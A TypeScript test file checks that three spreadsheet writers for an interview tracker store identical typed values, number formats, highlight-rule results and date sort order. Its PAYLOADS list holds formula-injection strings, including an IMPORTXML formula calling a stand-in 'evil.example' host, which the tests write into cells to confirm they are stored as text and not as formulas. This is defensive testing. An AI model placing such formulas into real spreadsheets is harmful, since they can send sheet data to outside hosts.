/**
 * One cell model: the same Interviews row written by each writer —
 * SpreadsheetApp (appsscript/sheets/table.ts over the Apps Script fake), the
 * Sheets API sink (real googleapis client, fake Google) and the .xlsx sink —
 * reads back with the same typed values and number formats, and through
 * each reader as the same row.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INTERVIEWS } from '../../../shared/schema/tracker-schema.js';
import { columnLetter, mapHeaders } from '../../../shared/schema/header-map.js';
import type { RowCells } from '../../../shared/sync/ports.js';
import { planRowWrite } from '../../../shared/tracker/plan-row-write.js';
import { readTable } from '../../../shared/tracker/read-table.js';
import { buildDueFormatRules } from '../../../shared/due/due-format-rules.js';
import { DEFAULT_DUE_SETTINGS } from '../../../shared/due/due-settings.js';
import { wallToSerial } from '../../../shared/cells/serial.js';
import { numberFormatOf } from '../../../shared/cells/cell-kind.js';
import { createDateCodec } from '../../../appsscript/sheets/dates.js';
import { writeRow } from '../../../appsscript/sheets/table.js';
import { createGoogleClients, fixedTokenAuth } from '../../../server/google/clients.js';
import { createGoogleSheetsSink } from '../../../server/google/sheets-sink.js';
import { XlsxSink } from '../../../server/xlsx/xlsx-sink.js';
import { CallLog, FakeSheet, createAppsScript, formatDate } from '../../fakes/apps-script/index.js';
import { startFakeGoogle, type RunningFakeGoogle } from '../../fake-google/server.js';
import { formatAt } from '../../fake-google/fake-spreadsheet.js';
import { recordingRetry } from '../../server/google/harness.js';
import { evaluateFormula, type FormulaValue } from '../../support/evaluate-formula.js';

const ZONE = 'Europe/Berlin';
const HEADERS = INTERVIEWS.columns.map((column) => column.header);
const PAYLOADS = ['=IMPORTXML("https://evil.example","//a")', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

/** The row every writer writes: a synced interview that ended two days before NOW, a self-rating, formula-looking text. */
const ROW: RowCells = {
  eventId: 'ev-1',
  start: '2026-03-06 14:30',
  end: '2026-03-06 15:30',
  timeZone: ZONE,
  title: PAYLOADS[0]!,
  company: PAYLOADS[1]!,
  role: PAYLOADS[2]!,
  interviewers: PAYLOADS[3]!,
  meetingLink: PAYLOADS[4]!,
  calendarStatus: 'confirmed',
  notes: PAYLOADS[5]!,
  selfRating: '4',
  eventVersion: '2026-03-01T10:00:00.000Z',
};
/** 2026-03-08 12:00 in the sheet's zone, as a serial: NOW for the highlight. */
const NOW = wallToSerial('2026-03-08 12:00');

/** A cell as every world must store it: typed value and number format. */
type Stored = { value: number | string | boolean | null; format: string };

const expected = (): Stored[] =>
  INTERVIEWS.columns.map((column) => {
    const text = ROW[column.key] ?? '';
    if (column.type === 'datetime') return { value: text === '' ? null : wallToSerial(text), format: 'yyyy-mm-dd hh:mm' };
    if (column.type === 'number') return { value: text === '' ? null : Number(text), format: '0.##' };
    return { value: text === '' ? null : text, format: '@' };
  });

/** SpreadsheetApp: the add-on's own writer over the Apps Script fake. */
function writeWithSpreadsheetApp(): { stored: Stored[]; read: Record<string, string> } {
  const fakes = createAppsScript({ bundleDir: '.' });
  (globalThis as { Utilities?: unknown }).Utilities = fakes.globals.Utilities;
  const sheet = new FakeSheet('Interviews', new CallLog(), 10, HEADERS.length, ZONE);
  HEADERS.forEach((header, c) => (sheet.cellAt(1, c + 1).value = header));
  // As "Set up tracker" leaves it: each column in its format.
  INTERVIEWS.columns.forEach((column, c) => (sheet.cellAt(2, c + 1).format = numberFormatOf(column)));
  const codec = createDateCodec(ZONE);
  const map = mapHeaders(INTERVIEWS, HEADERS);
  writeRow(sheet as unknown as GoogleAppsScript.Spreadsheet.Sheet, planRowWrite(map, 2, ROW), codec);
  const stored = HEADERS.map((_, c): Stored => {
    const cell = sheet.cellAt(2, c + 1);
    const value = cell.value instanceof Date ? wallToSerial(formatDate(cell.value, ZONE, 'yyyy-MM-dd HH:mm')) : cell.value === '' ? null : cell.value;
    expect(cell.formula).toBe('');
    return { value, format: cell.format };
  });
  const table = readTable(INTERVIEWS, sheet.peekValues().slice(0, 2), codec.cellText);
  return { stored, read: table.rows[0]!.cells };
}

let google: RunningFakeGoogle;
beforeAll(async () => {
  google = await startFakeGoogle();
});
afterAll(async () => {
  delete (globalThis as { Utilities?: unknown }).Utilities;
  await google.close();
});

/** The Sheets API sink over fake Google. */
async function writeWithSheetsApi(): Promise<{
  stored: Stored[];
  read: Record<string, string>;
  cells: (address: string) => FormulaValue;
  sort: () => string[];
}> {
  const book = google.google.spreadsheet(`cross-${Math.random()}`, ZONE);
  book.addSheet('Interviews', [HEADERS]);
  const { sheets } = createGoogleClients({ auth: fixedTokenAuth('t'), rootUrl: google.url });
  const sink = createGoogleSheetsSink({ sheets, spreadsheetId: book.spreadsheetId, retry: recordingRetry([]) });
  await sink.apply([{ kind: 'append', eventId: ROW.eventId!, cells: ROW }], await sink.read());
  const sheet = book.sheets[0]!;
  const stored = HEADERS.map((_, c): Stored => {
    const value = sheet.rows[1]?.[c];
    expect(value?.formulaValue).toBeUndefined();
    const format = formatAt(sheet, 1, c);
    return { value: value?.numberValue ?? value?.stringValue ?? value?.boolValue ?? null, format: format?.pattern ?? 'General' };
  });
  const snapshot = await sink.read();
  const cells = (address: string): FormulaValue => {
    const column = HEADERS.findIndex((_, c) => columnLetter(c) === address.replace(/\d+/g, ''));
    const value = sheet.rows[Number(address.replace(/\D+/g, '')) - 1]?.[column];
    return value?.numberValue ?? value?.stringValue ?? value?.boolValue ?? null;
  };
  const sort = () => {
    book.sortRows('Interviews', HEADERS.indexOf('Start'));
    return sheet.rows.slice(1).map((row) => row[0]?.stringValue ?? '');
  };
  const read = Object.fromEntries(Object.entries(snapshot.rows[0]!).filter(([key]) => key in ROW || ROW[key] === undefined));
  return { stored, read, cells, sort };
}

/** The .xlsx sink. */
async function writeWithXlsx(): Promise<{ stored: Stored[]; read: Record<string, string> }> {
  const path = join(mkdtempSync(join(tmpdir(), 'nr-cells-')), 'tracker.xlsx');
  const sink = new XlsxSink({ path, timeZone: ZONE });
  await sink.apply([{ kind: 'append', eventId: ROW.eventId!, cells: ROW }], await sink.read());
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const row = workbook.getWorksheet('Interviews')!.getRow(2);
  const stored = HEADERS.map((_, c): Stored => {
    const cell = row.getCell(c + 1);
    const value = cell.value;
    expect(typeof value === 'object' && value !== null && !(value instanceof Date)).toBe(false);
    const typed = value instanceof Date ? wallToSerial(value.toISOString().slice(0, 16).replace('T', ' ')) : ((value as string | number | null) ?? null);
    return { value: typed, format: cell.numFmt ?? 'General' };
  });
  return { stored, read: (await new XlsxSink({ path, timeZone: ZONE }).read()).rows[0]! };
}

describe('one cell model across the three writers', () => {
  it('stores the same typed values and number formats whichever writer wrote the row', async () => {
    const [apps, api, xlsx] = [writeWithSpreadsheetApp(), await writeWithSheetsApi(), await writeWithXlsx()];
    const want = expected();
    expect(apps.stored).toEqual(want);
    expect(api.stored).toEqual(want);
    expect(xlsx.stored).toEqual(want);
  });

  it("reads the row back as the same cells through each writer's reader", async () => {
    const [apps, api, xlsx] = [writeWithSpreadsheetApp(), await writeWithSheetsApi(), await writeWithXlsx()];
    const want = Object.fromEntries(INTERVIEWS.columns.map((column) => [column.key, ROW[column.key] ?? '']));
    expect(apps.read).toEqual(want);
    expect(api.read).toEqual(want);
    expect(xlsx.read).toEqual(want);
  });

  it('fires the thank-you highlight on the row whichever writer wrote it, the calendar sync included', async () => {
    const [apps, api, xlsx] = [writeWithSpreadsheetApp(), await writeWithSheetsApi(), await writeWithXlsx()];
    const layout = mapHeaders(INTERVIEWS, HEADERS).indexByKey;
    const rule = buildDueFormatRules(layout, layout, DEFAULT_DUE_SETTINGS).find((candidate) => candidate.sheet === 'Interviews')!;
    /** Row 2 of a written sheet, by A1 address. */
    const cellsOf =
      (stored: Stored[]) =>
      (address: string): FormulaValue => {
        const column = HEADERS.findIndex((_, c) => columnLetter(c) === address.replace(/\d+/g, ''));
        return address.replace(/\D+/g, '') === '2' ? (stored[column]?.value ?? null) : null;
      };
    expect([apps, api, xlsx].map((written) => evaluateFormula(rule.formula, { cell: cellsOf(written.stored), now: NOW }))).toEqual([true, true, true]);
    expect(evaluateFormula(rule.formula, { cell: api.cells, now: NOW })).toBe(true);
    // Not yet due an hour after the interview ended.
    expect(evaluateFormula(rule.formula, { cell: api.cells, now: wallToSerial('2026-03-06 16:30') })).toBe(false);
    // The same row with End as text (what the Sheets sink wrote before) never fires.
    const asText = (address: string) => {
      const value = api.cells(address);
      return typeof value === 'number' ? String(value) : value;
    };
    expect(evaluateFormula(rule.formula, { cell: asText, now: NOW })).toBe(false);
  });

  it('averages self-ratings written by any writer', async () => {
    const [apps, api, xlsx] = [writeWithSpreadsheetApp(), await writeWithSheetsApi(), await writeWithXlsx()];
    const rating = INTERVIEWS.columns.findIndex((column) => column.key === 'selfRating');
    const ratings = [apps, api, xlsx].map((written) => written.stored[rating]!.value);
    const column = columnLetter(rating);
    const average = (values: FormulaValue[]) =>
      evaluateFormula(`=AVERAGE(${column}2:${column}${values.length + 1})`, {
        cell: (address) => values[Number(address.slice(column.length)) - 2] ?? null,
        now: NOW,
      });
    expect(average(ratings as FormulaValue[])).toBe(4);
    expect(average(['4', '4', '4'])).toBe('#DIV/0!');
  });
});

describe('sorting a date column', () => {
  it('orders rows the sink wrote by time, even where their text would order them otherwise', async () => {
    const book = google.google.spreadsheet(`sort-${Math.random()}`, ZONE);
    book.addSheet('Interviews', [HEADERS]);
    const { sheets } = createGoogleClients({ auth: fixedTokenAuth('t'), rootUrl: google.url });
    const sink = createGoogleSheetsSink({ sheets, spreadsheetId: book.spreadsheetId, retry: recordingRetry([]) });
    // An all-day round (a whole day, shown without a time) sorts before a round later that day, by time.
    const rows = [
      { eventId: 'late', start: '2026-03-09 09:00' },
      { eventId: 'allday', start: '2026-03-09' },
      { eventId: 'early', start: '2026-03-08 23:30' },
      { eventId: 'first', start: '2025-12-31 10:00' },
    ];
    await sink.apply(
      rows.map((row) => ({ kind: 'append' as const, eventId: row.eventId, cells: { ...row, title: row.eventId } })),
      await sink.read(),
    );
    book.sortRows('Interviews', HEADERS.indexOf('Start'));
    expect(book.sheets[0]!.rows.slice(1).map((row) => row[0]?.stringValue)).toEqual(['first', 'early', 'allday', 'late']);
  });
});
